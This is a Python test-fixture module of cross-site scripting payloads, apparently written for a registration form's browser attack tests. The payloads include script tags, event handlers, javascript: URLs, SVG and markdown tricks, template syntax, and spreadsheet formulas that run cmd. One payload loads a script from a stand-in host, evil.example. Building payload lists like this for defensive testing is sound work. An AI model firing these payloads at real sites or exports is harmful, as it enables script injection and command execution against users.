"""Cross-site scripting payloads for the attack tests: script tags, event handlers,
`javascript:` and other dangerous URLs, SVG and MathML, attribute and context breakouts,
markdown tricks, template syntax and spreadsheet formulas.

Every payload fits a 100-character field (a registration's names), and each one that could
run sets `window.__xss` or opens a dialog, which the browser test watches for.
"""

SCRIPT_TAGS = [
    "<script>window.__xss=1</script>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "</script><script>window.__xss=1</script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    "<script type=module>window.__xss=1</script>",
    "\u2028\u2029<script>window.__xss=1</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="window.__xss=1">',
    '<img src="x" onerror="&#x61;lert(1)">',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>",
    "<select onfocus=window.__xss=1 autofocus>",
    "<textarea onfocus=window.__xss=1 autofocus>",
    '<a href="#" onclick="window.__xss=1">click</a>',
    "<x contenteditable onblur=window.__xss=1>lose focus",
    '" onmouseover="window.__xss=1',
    "' onfocus='window.__xss=1' autofocus='",
    '<div onpointerenter="window.__xss=1">hover</div>',
]

DANGEROUS_URLS = [
    '<a href="javascript:alert(1)">click</a>',
    '<a href="jAvAsCrIpT:window.__xss=1">x</a>',
    '<a href="&#106;avascript:window.__xss=1">x</a>',
    '<a href=" javascript:window.__xss=1">x</a>',
    '<a href="java\tscript:window.__xss=1">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "javascript:alert(1)",
]

SVG_AND_MATHML = [
    "<svg onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<!--<img src="--><img src=x onerror=window.__xss=1//">',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
]

MARKDOWN_TRICKS = [
    "[click me](javascript:alert(1))",
    "[x](JaVaScRiPt:window.__xss=1)",
    "![img](javascript:window.__xss=1)",
    "[x](javascript&#58;window.__xss=1)",
    "<javascript:alert(1)>",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[x](https://example.org "title" onmouseover="window.__xss=1")',
    "`<script>window.__xss=1</script>`",
    "**<img src=x onerror=window.__xss=1>**",
]

TEMPLATE_AND_ENCODING = [
    "{{ 7*7 }}{% debug %}",
    "${alert(1)}",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
]

SPREADSHEET_FORMULAS = [
    '=HYPERLINK("javascript:alert(1)","click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]

PAYLOADS = (
    SCRIPT_TAGS
    + EVENT_HANDLERS
    + DANGEROUS_URLS
    + SVG_AND_MATHML
    + MARKDOWN_TRICKS
    + TEMPLATE_AND_ENCODING
    + SPREADSHEET_FORMULAS
)

assert len(PAYLOADS) >= 50
assert len(set(PAYLOADS)) == len(PAYLOADS)
assert all(len(payload) <= 100 for payload in PAYLOADS)
